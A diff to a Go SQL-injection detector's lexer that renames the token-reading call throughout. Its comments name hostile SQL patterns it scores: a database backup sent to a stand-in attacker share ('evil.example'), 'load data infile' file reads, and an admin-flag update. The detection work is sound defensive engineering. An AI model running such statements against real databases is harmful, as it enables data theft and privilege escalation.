@@ -7,7 +7,7 @@ package inspect
 // it; 0 is none.
 func (l *sqlLexer) statement(t *sqlToken) (n int, rule string) {
 	save := l.i
-	u := l.next()
+	u := l.past()
 	if t.call != 0 {
 		l.i = save
 		if t.call >= callUseful {
@@ -41,7 +41,7 @@ func (l *sqlLexer) statement(t *sqlToken) (n int, rule string) {
 			n = 3
 		}
 	case "backup": // backup database x to disk='\\evil.example\x'; "back up the database"
-		if u.word == "database" && sqlName(l.next()) {
+		if u.word == "database" && sqlName(l.past()) {
 			n = 5
 		}
 	case "grant":
@@ -57,7 +57,7 @@ func (l *sqlLexer) statement(t *sqlToken) (n int, rule string) {
 		}
 	case "load": // load data infile; "load data from the file"
 		if u.word == "data" {
-			if w := l.next(); w.word == "infile" || w.word == "local" {
+			if w := l.past(); w.word == "infile" || w.word == "local" {
 				n, rule = 5, "sqli.file"
 			}
 		}
@@ -92,17 +92,17 @@ func (l *sqlLexer) definition(u sqlToken) int {
 		if u.word != "or" && u.word != "replace" && !(u.kind == tStatement && u.word == "if") {
 			break
 		}
-		u = l.next()
+		u = l.past()
 	}
 	switch u.word {
 	case "table", "database", "view", "index", "user", "procedure", "login", "function", "trigger":
 	default:
 		return 0
 	}
-	if w := l.next(); !sqlName(w) && w.word == "" {
+	if w := l.past(); !sqlName(w) && w.word == "" {
 		return 0
 	}
-	switch x := l.next(); {
+	switch x := l.past(); {
 	case x.kind == tWord && x.call == 0 && u.word != "function":
 		return 2
 	case x.kind != tEnd:
@@ -116,8 +116,8 @@ func (l *sqlLexer) definition(u sqlToken) int {
 // deletion: "delete from orders where", or nothing behind the name. "Delete from
 // the list all names" goes on with words.
 func (l *sqlLexer) deletion(u sqlToken) int {
-	if u.word == "from" && sqlName(l.next()) {
-		if x := l.next(); x.kind == tEnd || x.kind == tSemi || x.kind == tComment || x.word == "where" {
+	if u.word == "from" && sqlName(l.past()) {
+		if x := l.past(); x.kind == tEnd || x.kind == tSemi || x.kind == tComment || x.word == "where" {
 			l.i = x.start
 			return 4
 		}
@@ -128,8 +128,8 @@ func (l *sqlLexer) deletion(u sqlToken) int {
 // insertion: "insert into t(a)", "insert into t values", "insert into t select";
 // "insert into the slot".
 func (l *sqlLexer) insertion(u sqlToken) int {
-	if u.word == "into" && sqlName(l.next()) {
-		if x := l.next(); x.kind == tOpen || x.word == "values" || x.kind == tSelect {
+	if u.word == "into" && sqlName(l.past()) {
+		if x := l.past(); x.kind == tOpen || x.word == "values" || x.kind == tSelect {
 			l.i = x.start
 			return 4
 		}
@@ -139,8 +139,8 @@ func (l *sqlLexer) insertion(u sqlToken) int {
 
 // update: "update users set admin=1"; "update the set of rules".
 func (l *sqlLexer) update(u sqlToken) int {
-	if sqlName(u) && u.word != "set" && l.next().word == "set" && sqlName(l.next()) {
-		if y := l.next(); y.code == '=' {
+	if sqlName(u) && u.word != "set" && l.past().word == "set" && sqlName(l.past()) {
+		if y := l.past(); y.code == '=' {
 			l.i = y.end
 			return 4
 		}
@@ -154,7 +154,7 @@ func (l *sqlLexer) execution(u sqlToken) int {
 		return 5
 	}
 	if sqlName(u) {
-		if x := l.next(); x.kind == tString || x.kind == tVar {
+		if x := l.past(); x.kind == tString || x.kind == tVar {
 			return 4
 		}
 	}
@@ -164,10 +164,10 @@ func (l *sqlLexer) execution(u sqlToken) int {
 // grant: "grant connect to x;", "grant all on t to x;"; "grant access to the
 // new user" lacks the end of a statement.
 func (l *sqlLexer) grant(u sqlToken) int {
-	w := l.next()
+	w := l.past()
 	if u.word == "connect" || w.word == "on" || w.kind == tOp || w.word == "to" {
-		if sqlName(l.next()) {
-			if y := l.next(); y.kind == tSemi {
+		if sqlName(l.past()) {
+			if y := l.past(); y.kind == tSemi {
 				l.i = y.start
 				return 5
 			}
